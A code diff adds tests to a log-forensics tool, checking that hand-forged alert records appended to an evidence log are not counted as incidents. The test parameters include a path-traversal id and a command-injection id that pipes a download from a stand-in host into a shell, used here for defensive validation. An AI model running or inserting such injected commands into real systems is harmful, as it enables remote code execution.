@@ -1,9 +1,13 @@
 """Which incidents there are, and which one is meant."""
 
+import json
+
 import pytest
 from support import cases, logs
 
 from replguard.errors import ReplguardError
+from replguard.events import wire
+from replguard.events.alert import Alert
 from replguard.forensics import register
 from replguard.forensics.register import Line
 from replguard.log.reader import Fault
@@ -78,3 +82,37 @@ def test_lines_are_picked_with_their_place(tmp_path):
     packed = next(path for path in logs.segments(folder, "evidence") if path.suffix == ".zst")
     packed.write_bytes(b"damaged")
     assert any(isinstance(each, Fault) for each in register.picked(folder, lambda _: False))
+
+
+def hung_on(tmp_path, end, **values):
+    """Return the incidents of a log before and after an alert with other values was written behind it by hand."""
+    folder = cases.made(tmp_path / "log", tmp_path / "state")
+    logs.plain(folder)
+    before = register.incidents(folder, [])
+    alert = next(json.loads(wire.encode(each)) for each in cases.records() if isinstance(each, Alert))
+    alert["replguard"] |= values
+    with list(logs.segments(folder, "evidence"))[-1].open("ab") as file:
+        file.write(json.dumps(alert, separators=(",", ":")).encode() + end)
+    return before, register.incidents(folder, [])
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        {"incident": "x/../../pwned"},
+        {"incident": "x; curl evil|sh"},
+        {"incident": "forged", "first_seen": "2026-01-01T00:00:00"},
+        {"incident": "forged", "last_seen": "soon"},
+    ],
+)
+def test_what_nothing_here_wrote_is_no_incident(tmp_path, values):
+    """Its id would become the name of a file and part of a command; its time could not be reckoned with."""
+    before, after = hung_on(tmp_path, b"\n", **values)
+    assert after == before
+
+
+def test_half_a_line_is_no_record(tmp_path):
+    """It was being written when the writer ended, or somebody hung it on: verify does not call a log changed for it."""
+    before, after = hung_on(tmp_path, b"", incident="forged")
+    assert after == before
+    assert len(hung_on(tmp_path / "whole", b"\n", incident="forged")[1]) == len(before) + 1
